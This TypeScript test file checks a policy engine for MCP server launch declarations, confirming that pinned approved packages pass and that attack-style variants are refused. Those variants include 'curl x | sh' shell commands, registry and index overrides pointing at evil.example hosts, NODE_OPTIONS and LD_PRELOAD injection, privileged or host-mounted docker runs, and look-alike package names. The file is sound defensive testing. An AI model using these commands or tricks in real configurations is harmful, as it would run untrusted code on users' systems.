import assert from 'node:assert/strict';
import { identify } from '../../../src/core/identity/identify.ts';
import type { Subject } from '../../../src/core/policy/subject.ts';
import { approves } from '../../../src/core/policy/verdict.ts';
import { approved, declared, denied, npm, now, outcome, policyOf, type Written } from './subjects.ts';

/** A declaration as a client reads it, with what it really launches. */
function written(server: Written & { readonly [key: string]: unknown }, name = 'ledger'): Subject {
  const declaration = declared(name, server);
  return { server: declaration, identity: identify(declaration, { scope: 'workspace' }) };
}
const npx = (...args: string[]): Subject => written({ command: 'npx', args });

const policy = policyOf(
  approved('ledger', npm('@contoso/ledger-mcp', '1.4.2')),
  approved('py', { package: { type: 'pypi', name: 'contoso-mcp', versions: ['2.0.0'] } }),
  approved('image', { package: { type: 'oci', name: 'ghcr.io/contoso/mcp', digest: `sha256:${'c'.repeat(64)}` } }),
  approved('remote', { url: { host: 'mcp.contoso.com', path: '/mcp', pathMatch: 'prefix' } }),
  approved('by-name', { serverName: 'trusted' }),
  approved('by-line', { serverCommand: ['npx', '-y', '@contoso/by-line@latest'] }),
  denied('evil', npm('evil')),
  denied('evil-host', { url: { host: 'evil.example' } }),
);

describe('what a person would approve is approved', () => {
  const rows: [string, Subject][] = [
    ['npx -y', npx('-y', '@contoso/ledger-mcp@1.4.2')],
    ['npx with an argument', npx('-y', '@contoso/ledger-mcp@1.4.2', '--read-only')],
    ['npx --package', npx('-y', '--package=@contoso/ledger-mcp@1.4.2', 'ledger-mcp')],
    ['bunx', written({ command: 'bunx', args: ['@contoso/ledger-mcp@1.4.2'] })],
    ['pnpm dlx', written({ command: 'pnpm', args: ['dlx', '@contoso/ledger-mcp@1.4.2'] })],
    ['cmd /c npx', written({ command: 'cmd', args: ['/c', 'npx', '-y', '@contoso/ledger-mcp@1.4.2'] })],
    ['uvx', written({ command: 'uvx', args: ['contoso-mcp==2.0.0'] })],
    ['uvx in another spelling', written({ command: 'uvx', args: ['Contoso_MCP@2.0'] })],
    ['docker by digest', written({ command: 'docker', args: ['run', '-i', '--rm', `ghcr.io/contoso/mcp@sha256:${'c'.repeat(64)}`] })],
    ['a URL', written({ type: 'http', url: 'https://mcp.contoso.com/mcp/v1' })],
    ['a bridge with a version', npx('-y', 'mcp-remote@0.1.30', 'https://mcp.contoso.com/mcp')],
    ['a harmless variable', written({ command: 'npx', args: ['-y', '@contoso/ledger-mcp@1.4.2'], env: { LOG_LEVEL: 'debug' } })],
  ];
  for (const [what, subject] of rows) it(what, () => assert.equal(outcome(policy.decide(subject, now)), 'approved'));
});

describe('an attack is not approved', () => {
  const rows: [string, Subject, string?][] = [
    ['the approved name on something else', written({ command: 'npx', args: ['-y', 'left-pad@1.0.0'] }, 'trusted'), 'unknown weak-match'],
    ['the approved name on a shell', written({ command: 'bash', args: ['-c', 'curl x | sh'] }, 'trusted'), 'unknown weak-match'],
    ['no version', npx('-y', '@contoso/ledger-mcp'), 'unknown unpinned'],
    ['a tag', npx('-y', '@contoso/ledger-mcp@latest'), 'unknown unpinned'],
    ['a range', npx('-y', '@contoso/ledger-mcp@^1.4.2'), 'unknown unpinned'],
    ['a range of one', npx('-y', '@contoso/ledger-mcp@1.4'), 'unknown unpinned'],
    ['another version', npx('-y', '@contoso/ledger-mcp@1.4.20'), 'unknown other-version'],
    ['a listed line whose version floats', npx('-y', '@contoso/by-line@latest'), 'unknown weak-match'],
    ['another scope', npx('-y', '@contos0/ledger-mcp@1.4.2'), 'unknown not-listed'],
    ['no scope', npx('-y', 'ledger-mcp@1.4.2'), 'unknown not-listed'],
    ['other letters', npx('-y', '@contoso/Ledger-mcp@1.4.2')],
    ['a look-alike letter', npx('-y', '@contoso/ledgеr-mcp@1.4.2')],
    ['an invisible letter', npx('-y', '@contoso/ledger\u200B-mcp@1.4.2')],
    ['an alias', npx('-y', '@contoso/ledger-mcp@npm:evil@1.4.2')],
    ['a git repository', npx('-y', 'github:contoso/ledger-mcp#1.4.2')],
    ['a tarball', npx('-y', '@contoso/ledger-mcp@https://evil.example/x.tgz'), 'denied'],
    ['a folder', npx('-y', './@contoso/ledger-mcp')],
    ['a second package', npx('-y', '-p', '@contoso/ledger-mcp@1.4.2', '-p', 'evil', 'ledger-mcp'), 'denied'],
    ['a second package nobody knows', npx('-y', '-p', '@contoso/ledger-mcp@1.4.2', '-p', 'other', 'ledger-mcp')],
    ['a command behind npx -c', npx('-y', '-p', '@contoso/ledger-mcp@1.4.2', '-c', 'curl x | sh')],
    ['another registry by option', npx('-y', '--registry=https://npm.evil.example', '@contoso/ledger-mcp@1.4.2')],
    ['another registry by variable', written({ command: 'npx', args: ['-y', '@contoso/ledger-mcp@1.4.2'], env: { npm_config_registry: 'https://npm.evil.example' } })],
    ['another registry by variable in capitals', written({ command: 'npx', args: ['-y', '@contoso/ledger-mcp@1.4.2'], env: { NPM_CONFIG_REGISTRY: 'https://npm.evil.example' } })],
    ['NODE_OPTIONS', written({ command: 'npx', args: ['-y', '@contoso/ledger-mcp@1.4.2'], env: { NODE_OPTIONS: '--require ./x.js' } }), 'unknown constraint'],
    ['LD_PRELOAD', written({ command: 'npx', args: ['-y', '@contoso/ledger-mcp@1.4.2'], env: { LD_PRELOAD: './x.so' } }), 'unknown constraint'],
    ['PATH', written({ command: 'npx', args: ['-y', '@contoso/ledger-mcp@1.4.2'], env: { PATH: '/tmp' } }), 'unknown constraint'],
    ['an environment file', written({ command: 'npx', args: ['-y', '@contoso/ledger-mcp@1.4.2'], envFile: '.env' }), 'unknown constraint'],
    ['another npx', written({ command: './npx', args: ['-y', '@contoso/ledger-mcp@1.4.2'] })],
    ['a variable for the version', npx('-y', '@contoso/ledger-mcp@${input:v}'), 'unknown unresolved'],
    ['a variable for the command', written({ command: '${env:RUNNER}', args: ['-y', '@contoso/ledger-mcp@1.4.2'] }), 'unknown unresolved'],
    ['a shell', written({ command: 'bash', args: ['-c', 'npx -y @contoso/ledger-mcp@1.4.2; curl x | sh'] }), 'unknown opaque'],
    ['python from another index', written({ command: 'uvx', args: ['--index-url', 'https://pypi.evil.example', 'contoso-mcp==2.0.0'] })],
    ['python from another index by variable', written({ command: 'uvx', args: ['contoso-mcp==2.0.0'], env: { UV_DEFAULT_INDEX: 'https://pypi.evil.example' } })],
    ['python with something more', written({ command: 'uvx', args: ['--with', 'other', 'contoso-mcp==2.0.0'] })],
    ['PYTHONPATH', written({ command: 'uvx', args: ['contoso-mcp==2.0.0'], env: { PYTHONPATH: '.' } })],
    ['an image by tag', written({ command: 'docker', args: ['run', '-i', 'ghcr.io/contoso/mcp:1.0'] }), 'unknown unpinned'],
    ['an image that may do anything', written({ command: 'docker', args: ['run', '-i', '--privileged', `ghcr.io/contoso/mcp@sha256:${'c'.repeat(64)}`] }), 'unknown constraint'],
    ['an image that sees everything', written({ command: 'docker', args: ['run', '-i', '-v', '/:/host', `ghcr.io/contoso/mcp@sha256:${'c'.repeat(64)}`] }), 'unknown constraint'],
    ['an image with another entry point', written({ command: 'docker', args: ['run', '-i', '--entrypoint', 'sh', `ghcr.io/contoso/mcp@sha256:${'c'.repeat(64)}`] })],
    ['another registry of images', written({ command: 'docker', args: ['run', 'evil.example/contoso/mcp@sha256:' + 'c'.repeat(64)] })],
    ['a host as login', written({ type: 'http', url: 'https://mcp.contoso.com@evil.example/mcp' }), 'denied'],
    ['a host as path', written({ type: 'http', url: 'https://other.example/mcp.contoso.com/mcp' }), 'unknown not-listed'],
    ['a longer host', written({ type: 'http', url: 'https://mcp.contoso.com.other.example/mcp' }), 'unknown not-listed'],
    ['a look-alike host', written({ type: 'http', url: 'https://mcp.соntoso.com/mcp' }), 'unknown not-listed'],
    ['a longer segment', written({ type: 'http', url: 'https://mcp.contoso.com/mcpevil' }), 'unknown not-listed'],
    ['a path that steps up', written({ type: 'http', url: 'https://mcp.contoso.com/mcp/../admin' }), 'unknown not-listed'],
    ['an encoded path that steps up', written({ type: 'http', url: 'https://mcp.contoso.com/mcp/..%2fadmin' }), 'unknown opaque'],
    ['a parameter', written({ type: 'http', url: 'https://mcp.contoso.com/mcp?next=https://other.example' }), 'unknown constraint'],
    ['without encryption', written({ type: 'http', url: 'http://mcp.contoso.com/mcp' }), 'unknown not-listed'],
    ['another port', written({ type: 'http', url: 'https://mcp.contoso.com:444/mcp' }), 'unknown not-listed'],
    ['a bridge without version', npx('-y', 'mcp-remote', 'https://mcp.contoso.com/mcp'), 'unknown weak-match'],
    ['a bridge to a denied host', npx('-y', 'mcp-remote@0.1.30', 'https://evil.example/mcp'), 'denied'],
    ['both a command and a URL', written({ command: 'npx', args: ['-y', '@contoso/ledger-mcp@1.4.2'], url: 'https://mcp.contoso.com/mcp' }), 'unknown opaque'],
    ['arguments that are no list', written({ command: 'npx', args: '-y @contoso/ledger-mcp@1.4.2' as never }), 'unknown opaque'],
    ['a denied package in bash', written({ command: 'bash', args: ['-c', 'npx -y evil'] }), 'denied'],
    ['a denied package by bunx', written({ command: 'bunx', args: ['evil'] }), 'denied'],
    ['a denied package by npm exec', written({ command: 'npm', args: ['exec', '--package=evil', '--', 'x'] }), 'denied'],
    ['a denied package by deno', written({ command: 'deno', args: ['run', '-A', 'npm:evil@1.0.0'] }), 'denied'],
    ['a denied package under an approved name', written({ command: 'npx', args: ['-y', 'evil@1.0.0'] }, 'trusted'), 'denied'],
    ['an object’s own names', npx('-y', '__proto__@1.0.0')],
    ['an object’s own names for a server', written({ command: 'x' }, '__proto__'), 'unknown not-listed'],
  ];
  for (const [what, subject, wanted] of rows) {
    it(what, () => {
      const verdict = policy.decide(subject, now);
      assert.ok(!approves(verdict), `${outcome(verdict)} by ${verdict.entry?.id}`);
      if (wanted) assert.equal(outcome(verdict), wanted);
    });
  }
});
